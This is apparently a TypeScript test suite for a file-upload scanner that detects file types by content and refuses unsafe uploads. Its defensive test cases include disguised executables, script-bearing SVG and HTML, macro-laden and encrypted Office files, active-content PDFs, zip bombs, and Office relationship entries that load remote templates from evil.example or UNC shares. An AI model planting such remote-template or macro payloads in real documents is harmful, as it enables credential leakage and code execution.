import { utils, write } from '@e965/xlsx'
import { describe, expect, test } from 'vitest'
import { openZip, scan } from './index.ts'
import { refuseExternal } from './external.ts'
import { isRefusal } from '#kernel/refusal'
import { jpeg, png } from './image-probe.ts'
import { zipOf } from './zip-probe.ts'

const office = (folder: string, more: Record<string, string> = {}) =>
  zipOf({ '[Content_Types].xml': '<Types/>', [`${folder}/main.xml`]: '<a/>', ...more })
const oldBook = () => {
  const book = utils.book_new()
  utils.book_append_sheet(book, utils.aoa_to_sheet([['姓名'], ['王小虎']]), '表')
  return Buffer.from(write(book, { type: 'array', bookType: 'biff8' }) as ArrayBuffer)
}
/** An old Office container whose directory names these parts. */
const container = (...names: string[]) => {
  const file = Buffer.alloc(512 + names.length * 128)
  Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(file)
  names.forEach((name, i) => {
    const at = 512 + i * 128
    file.write(name, at, 'utf16le')
    file.writeUInt16LE(name.length * 2 + 2, at + 64)
    file.writeUInt8(2, at + 66)
  })
  return file
}

describe('told by content, whatever the name', () => {
  const cases: [string, Buffer, string][] = [
    ['照片.png', jpeg(1, 1), 'jpg'],
    ['照片.jpg', png(1, 1), 'png'],
    ['公示.docx', Buffer.from('%PDF-1.7\n%âãÏÓ'), 'pdf'],
    ['事迹', office('word'), 'docx'],
    ['花名册', office('xl'), 'xlsx'],
    ['公文', zipOf({ 'OFD.xml': '<a/>' }), 'ofd'],
    ['花名册.xls', oldBook(), 'xls'],
    ['事迹.doc', container('Root Entry', 'WordDocument'), 'doc'],
    ['花名册.csv', Buffer.from('姓名,单位\n王小虎,机械厂\n'), 'csv'],
    ['说明.txt', Buffer.from([0xb9, 0xab, 0xca, 0xbe]), 'txt'],
  ]
  for (const [name, bytes, kind] of cases)
    test(`${name} is ${kind}`, () => expect(scan(bytes, name)).toMatchObject({ kind, notes: [] }))

  test('a PDF that asks for a password is taken and flagged', () =>
    expect(scan(Buffer.from('%PDF-1.7\ntrailer << /Encrypt 5 0 R >>'), 'a.pdf')).toEqual({
      kind: 'pdf',
      notes: ['encrypted'],
    }))
})

describe('refused, each with the reason and what to do', () => {
  const cases: [string, Buffer, string][] = [
    ['空.pdf', Buffer.alloc(0), 'files.empty'],
    ['证书.pdf', Buffer.from('MZ\x90\0program'), 'files.executable'],
    ['照片.jpg', Buffer.from('7f454c4602', 'hex'), 'files.executable'],
    ['名单.csv', Buffer.from('#!/bin/sh\nrm'), 'files.executable'],
    ['公示.txt', Buffer.from('\n <!DOCTYPE html><script>1</script>'), 'files.executable'],
    ['图.svg', Buffer.from('<?xml version="1.0"?><svg onload="1"/>'), 'files.executable'],
    ['照片.jpg', Buffer.from('0000001866747970686569630000', 'hex'), 'files.picture'],
    ['照片.jpg', Buffer.concat([Buffer.from('RIFF0000WEBPVP8 ')]), 'files.picture'],
    ['动图.gif', Buffer.from('GIF89a'), 'files.picture'],
    ['材料.zip', zipOf({ '材料.txt': '一' }), 'files.archive'],
    ['材料.rar', Buffer.from('Rar!\x1a\x07'), 'files.archive'],
    ['带宏.xlsx', office('xl', { 'xl/vbaProject.bin': 'x' }), 'files.macros'],
    ['带宏.docx', office('word', { 'word/vbaProject.bin': 'x' }), 'files.macros'],
    ['带宏.doc', container('Root Entry', 'WordDocument', 'Macros'), 'files.macros'],
    ['加密.xlsx', container('Root Entry', 'EncryptedPackage'), 'files.encrypted'],
    ['加密.docx', zipOf({ '[Content_Types].xml': 'x' }, { flags: 1 }), 'files.encrypted'],
    ['演示.pptx', office('ppt'), 'files.office'],
    ['演示.ppt', container('Root Entry', 'PowerPoint Document'), 'files.office'],
    ['表.ods', zipOf({ mimetype: 'application/vnd.oasis.opendocument.spreadsheet' }), 'files.office'],
    ['带脚本.pdf', Buffer.from('%PDF-1.7\n<< /S /JavaScript /JS (app.alert) >>'), 'files.activePdf'],
    ['损坏.docx', office('word').subarray(0, 40), 'files.damaged'],
    ['不明.dat', Buffer.from([0, 1, 2, 3]), 'files.kind'],
  ]
  for (const [name, bytes, code] of cases)
    test(`${name}: ${code}`, () => {
      const refused = scan(bytes, name)
      expect(refused).toMatchObject({ refused: true, code })
      expect(isRefusal(refused) && refused.why && refused.remedy).toBeTruthy()
    })

  test('a photograph over its limit, with both sizes', () => {
    const big = Buffer.concat([jpeg(1, 1), Buffer.alloc(21 * 1024 * 1024)])
    expect(scan(big, '照片.jpg')).toMatchObject({
      code: 'files.size',
      status: 413,
      what: '文件过大：21.0 MB',
      why: '照片不超过 20.0 MB',
    })
  })
})

describe('archives that would burst', () => {
  test('far more unpacked than packed', () =>
    expect(scan(office('xl', { 'xl/a.xml': '0'.repeat(30 * 1024 * 1024) }), '表.xlsx')).toMatchObject({
      code: 'files.bomb',
    }))
  test('more than may ever be unpacked', () =>
    expect(openZip(zipOf({ a: 'x' }, { declared: 300 * 1024 * 1024 }))).toMatchObject({ code: 'files.bomb' }))
  test('entries that share their bytes', () =>
    expect(
      openZip(zipOf({ a: Buffer.from(Array.from({ length: 4000 }, (_, i) => (i * 7919) % 251)) }, { twice: true })),
    ).toMatchObject({ code: 'files.bomb' }))
  test('a lie about the size is found when it is read', async () => {
    const zip = openZip(zipOf({ a: 'x'.repeat(5000) }, { declared: 10 }))
    if (isRefusal(zip)) throw new Error(zip.what)
    await expect(zip.read('a')).rejects.toThrow()
  })
})

describe('an Office file that fetches something from elsewhere when it is opened', () => {
  const type = (of: string) => `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${of}`
  const naming = (of: string, target: string, q = '"') =>
    office('word', {
      'word/_rels/settings.xml.rels': `<Relationships><Relationship Id=${q}rId1${q} Type=${q}${type(of)}${q} Target=${q}${target}${q} TargetMode=${q}External${q}/></Relationships>`,
    })
  const refused: [string, string, string?][] = [
    ['attachedTemplate', 'https://evil.example/t.dotm'],
    ['attachedTemplate', '&#104;ttps://evil.example/t.dotm'],
    ['attachedTemplate', 'https://evil.example/t.dotm', "'"],
    ['oleObject', String.raw`\\10.0.0.9\share\a.docx`],
    ['image', 'file://10.0.0.9/share/a.png'],
    ['frame', 'mhtml:http://evil.example/x!http://evil.example/y'],
  ]
  for (const [of, target, q] of refused)
    test(`${of} ${target}`, async () =>
      expect(await refuseExternal(naming(of, target, q), '表.docx')).toMatchObject({ code: 'files.external' }))
  test('a list of relationships that cannot be read is no Office file', async () => {
    const torn = zipOf({ '[Content_Types].xml': '<Types/>', 'word/_rels/a.rels': 'x'.repeat(900) }, { declared: 10 })
    expect(await refuseExternal(torn, '表.docx')).toMatchObject({ code: 'files.office' })
  })
  const taken: [string, string][] = [
    ['hyperlink', 'https://www.example.gov.cn/'],
    ['attachedTemplate', String.raw`file:///C:\Users\wang\Normal.dotm`],
  ]
  for (const [of, target] of taken)
    test(`${of} ${target} is taken`, async () =>
      expect(await refuseExternal(naming(of, target), '表.docx')).toBeUndefined())
})

test('a script in a PDF is found under a name spelled in numbers', () =>
  expect(scan(Buffer.from('%PDF-1.7\n<< /S /J#61vaScript /JS (app.alert\\(1\\)) >>'), '回函.pdf')).toMatchObject({
    code: 'files.activePdf',
  }))
